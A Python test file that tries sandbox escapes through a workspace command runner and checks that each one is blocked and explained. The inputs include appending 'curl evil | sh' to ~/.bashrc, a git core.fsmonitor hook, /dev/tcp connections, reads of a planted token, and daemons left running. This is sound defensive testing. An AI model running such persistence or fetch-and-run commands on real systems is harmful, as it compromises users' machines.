"""Escapes tried through the command runner, with the real sandbox of this machine.

Each test runs a shell command the way the workspace host does (``Terminals`` with the
call's spec) and checks the escape failed, nothing landed outside, and the output says
why. Where this kernel cannot enforce something the test skips and says what is missing;
each escape also has a counterpart that shows the same command succeeding without the
sandbox (or inside what is allowed), so a test cannot pass because the command was broken.
"""

from __future__ import annotations

import os
import secrets
import socket
import sys
from dataclasses import replace
from pathlib import Path

import pytest
from procs import wait_until

from lingma_mcp.workspace.sandbox import SandboxSupport, command_spec, support
from lingma_mcp.workspace.terminals import TerminalOutput, Terminals, shell_argv

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")

TOKEN = "pt-" + "9f8e7d6c5b4a" * 3


def found() -> SandboxSupport:
    here = support()
    if here.mechanism != "landlock":
        pytest.skip(f"no sandbox on this machine: {here.reason}")
    return here


def need(feature: str, what: str) -> SandboxSupport:
    here = found()
    if not getattr(here, feature):
        pytest.skip(f"this kernel cannot make {what} here, so this is not enforced")
    return here


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    (root / ".git" / "objects").mkdir()
    (root / ".git" / "refs").mkdir()
    return root


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    (folder / ".bashrc").write_text("# mine\n")
    return folder


def terminals(
    workspace: Path,
    home: Path,
    *,
    mode: str = "workspace-write",
    network: bool = False,
    sandbox_support: SandboxSupport | None = None,
    passthrough: tuple[str, ...] = (),
) -> Terminals:
    environ = {
        "PATH": os.environ.get("PATH", os.defpath),
        "HOME": str(home),
        "QODERCN_PERSONAL_ACCESS_TOKEN": TOKEN,
        "LINGMA_MCP_SECRET_SETTING": "lingma-only",
        "MY_SETTING": "passed-on",
    }
    spec = command_spec(workspace, mode=mode, network=network)  # type: ignore[arg-type]
    return Terminals(
        sandbox=spec,
        environ=environ,
        passthrough_env=passthrough,
        sandbox_support=sandbox_support or found(),
    )


async def run(runner: Terminals, command: str, cwd: Path) -> TerminalOutput:
    tid = await runner.start(shell_argv(command), cwd=cwd)
    return await runner.wait(tid)


def sleepers(marker: str) -> list[int]:
    """Pids of live ``sleep <marker>`` processes (the marker is unique to one test)."""
    pids = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            argv = (entry / "cmdline").read_bytes().split(b"\0")
            state = (entry / "stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            continue
        if argv[:2] == [b"sleep", marker.encode()] and state not in ("Z", "X"):
            pids.append(int(entry.name))
    return pids


def said(out: TerminalOutput) -> str:
    """What the command itself printed, without the sandbox's closing paragraph."""
    return out.output.split("[lingma-mcp]")[0]


# -- what works ----------------------------------------------------------------------


async def test_writes_in_the_workspace_and_the_private_tmpdir_work(
    workspace: Path, home: Path
) -> None:
    runner = terminals(workspace, home)
    out = await run(
        runner, 'echo hi > made.txt && echo t > "$TMPDIR/t" && cat "$TMPDIR/t"', workspace
    )
    tmpdir = runner.tmpdir
    assert tmpdir is not None
    assert (out.exit_code, out.output) == (0, "t\n")
    assert (workspace / "made.txt").read_text() == "hi\n"
    assert tmpdir.stat().st_mode & 0o777 == 0o700
    await runner.close()
    assert not tmpdir.exists()


async def test_exit_codes_and_signals_come_through_as_the_commands_own(
    workspace: Path, home: Path
) -> None:
    runner = terminals(workspace, home)
    assert (await run(runner, "echo out; echo err >&2; exit 3", workspace)).exit_code == 3
    out = await run(runner, "kill -TERM $$", workspace)
    assert (out.exit_code, out.signal) == (None, "SIGTERM")
    await runner.close()


# -- writes outside ------------------------------------------------------------------


async def test_a_write_outside_the_workspace_fails_and_says_why(
    tmp_path: Path, workspace: Path, home: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    runner = terminals(workspace, home)
    out = await run(runner, f"echo x > {outside}/x", workspace)
    assert out.exit_code != 0 and "Permission denied" in out.output
    assert "sandbox" in out.output and str(workspace) in out.output
    assert list(outside.iterdir()) == []
    # The same command unconfined does write: the refusal above is the sandbox's.
    unconfined = terminals(workspace, home, mode="off")
    assert (await run(unconfined, f"echo x > {outside}/x", workspace)).exit_code == 0
    assert (outside / "x").read_text() == "x\n"
    await runner.close()
    await unconfined.close()


async def test_a_symlink_the_command_made_does_not_lead_outside(
    tmp_path: Path, workspace: Path, home: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    runner = terminals(workspace, home)
    out = await run(runner, f"ln -s {outside} link && echo x > link/x", workspace)
    assert out.exit_code != 0 and "Permission denied" in out.output
    assert (workspace / "link").is_symlink()  # making the link was allowed; using it not
    assert list(outside.iterdir()) == []
    await runner.close()


async def test_the_home_folder_is_not_writable(workspace: Path, home: Path) -> None:
    runner = terminals(workspace, home)
    out = await run(runner, "echo 'curl evil | sh' >> ~/.bashrc; touch ~/.profile", workspace)
    assert said(out).count("Permission denied") == 2
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert not (home / ".profile").exists()
    await runner.close()


async def test_read_only_forbids_writes_in_the_workspace_too(workspace: Path, home: Path) -> None:
    runner = terminals(workspace, home, mode="read-only")
    out = await run(runner, 'echo t > "$TMPDIR/t" && echo tmp ok; echo x > made.txt', workspace)
    assert "Permission denied" in out.output and "tmp ok" in out.output
    assert "read-only sandbox" in out.output
    assert not (workspace / "made.txt").exists()
    await runner.close()


async def test_git_metadata_stays_read_only_inside_a_writable_workspace(
    workspace: Path, home: Path
) -> None:
    need("mount_namespaces", "a mount namespace")
    runner = terminals(workspace, home)
    out = await run(
        runner,
        "git config core.fsmonitor 'touch pwned'; echo x >> .git/config; mkdir .git/hooks; "
        "cd .git && echo y > config",
        workspace,
    )
    assert said(out).count("Read-only file system") >= 3  # git words its own refusal
    assert f"kept read-only: {workspace / '.git'}" in out.output
    assert (workspace / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert not (workspace / ".git" / "hooks").exists()
    await runner.close()


# -- network -------------------------------------------------------------------------


async def test_no_tcp_connection_reaches_a_listener_on_loopback(
    workspace: Path, home: Path
) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        connect = f"echo hi > /dev/tcp/127.0.0.1/{port} && echo connected"
        runner = terminals(workspace, home)
        out = await run(runner, connect, workspace)
        assert out.exit_code != 0 and "connected" not in out.output
        assert "no network" in out.output
        # With the network on, the very same command connects.
        online = terminals(workspace, home, network=True)
        assert (await run(online, connect, workspace)).output == "connected\n"
        listener.accept()[0].close()
    await runner.close()
    await online.close()


async def test_tcp_stays_blocked_by_landlock_alone_without_a_network_namespace(
    workspace: Path, home: Path
) -> None:
    here = found()
    if here.landlock_abi < 4:
        pytest.skip(f"Landlock ABI {here.landlock_abi} has no network rules (ABI 4)")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        port = listener.getsockname()[1]
        runner = terminals(workspace, home, sandbox_support=replace(here, network_namespaces=False))
        out = await run(runner, f"echo hi > /dev/tcp/127.0.0.1/{port} && echo connected", workspace)
    assert "Permission denied" in out.output and "connected" not in out.output
    await runner.close()


# -- secrets ----------------------------------------------------------------------------


async def test_a_planted_token_in_the_servers_environment_is_not_visible(
    workspace: Path, home: Path
) -> None:
    runner = terminals(workspace, home, passthrough=("MY_SETTING",))
    out = await run(runner, 'echo "[$QODERCN_PERSONAL_ACCESS_TOKEN]"; env', workspace)
    assert out.output.startswith("[]\n")
    assert "QODERCN" not in out.output and "9f8e7d6c5b4a" not in out.output
    assert "LINGMA_MCP_SECRET_SETTING" not in out.output
    assert "MY_SETTING=passed-on" in out.output  # a listed name is passed on
    assert f"TMPDIR={runner.tmpdir}" in out.output
    await runner.close()


async def test_output_that_shows_a_secret_is_redacted(workspace: Path, home: Path) -> None:
    runner = terminals(workspace, home, passthrough=("QODERCN_PERSONAL_ACCESS_TOKEN",))
    out = await run(runner, 'echo "token=$QODERCN_PERSONAL_ACCESS_TOKEN"', workspace)
    assert out.output == "token=***\n"
    await runner.close()


# -- nothing outlives the command ---------------------------------------------------------


async def _leave_daemons(runner: Terminals, workspace: Path) -> str:
    """Start a command that leaves a setsid daemon and a double-forked one, check they run,
    let the command end, and return the marker their command lines carry."""
    marker = f"8640{secrets.randbelow(9)}.{secrets.randbelow(10**6)}"
    tid = await runner.start(
        shell_argv(
            f"setsid sleep {marker} & (sleep {marker} &); echo started; "
            "while [ ! -e go ]; do sleep 0.01; done"
        ),
        cwd=workspace,
    )
    await wait_until(lambda: "started" in runner.output(tid).output)
    await wait_until(lambda: len(sleepers(marker)) == 2)
    (workspace / "go").touch()
    assert (await runner.wait(tid)).exit_code == 0
    return marker


async def test_a_setsid_daemon_and_a_double_fork_die_with_the_command(
    workspace: Path, home: Path
) -> None:
    need("pid_namespaces", "a PID namespace")
    runner = terminals(workspace, home)
    marker = await _leave_daemons(runner, workspace)
    assert sleepers(marker) == []  # gone as soon as the command's end is reported
    await runner.close()


async def test_without_a_pid_namespace_the_subreaper_kills_what_is_left(
    workspace: Path, home: Path
) -> None:
    runner = terminals(
        workspace, home, sandbox_support=replace(found(), pid_namespaces=False, fresh_proc=False)
    )
    marker = await _leave_daemons(runner, workspace)
    assert sleepers(marker) == []
    await runner.close()


async def test_killing_a_command_kills_the_daemons_it_left(workspace: Path, home: Path) -> None:
    need("pid_namespaces", "a PID namespace")
    runner = terminals(workspace, home)
    marker = f"8641{secrets.randbelow(9)}.{secrets.randbelow(10**6)}"
    tid = await runner.start(shell_argv(f"setsid sleep {marker} & sleep 600"), cwd=workspace)
    await wait_until(lambda: bool(sleepers(marker)))
    runner.kill(tid)
    out = await runner.wait(tid)
    assert out.signal == "SIGKILL"
    await runner.close()
    # Killed with the namespace, which the kernel tears down after the launcher's death.
    await wait_until(lambda: not sleepers(marker))


async def test_the_git_file_of_a_linked_worktree_stays_read_only_too(
    tmp_path: Path, home: Path
) -> None:
    need("mount_namespaces", "a mount namespace")
    worktree = tmp_path / "worktree"
    worktree.mkdir()
    (worktree / ".git").write_text(f"gitdir: {tmp_path / 'repo.git'}\n")
    runner = terminals(worktree, home)
    out = await run(runner, "echo 'gitdir: /elsewhere' > .git; rm -f .git", worktree)
    assert "Read-only file system" in said(out) and "busy" in said(out)
    assert (worktree / ".git").read_text() == f"gitdir: {tmp_path / 'repo.git'}\n"
    await runner.close()
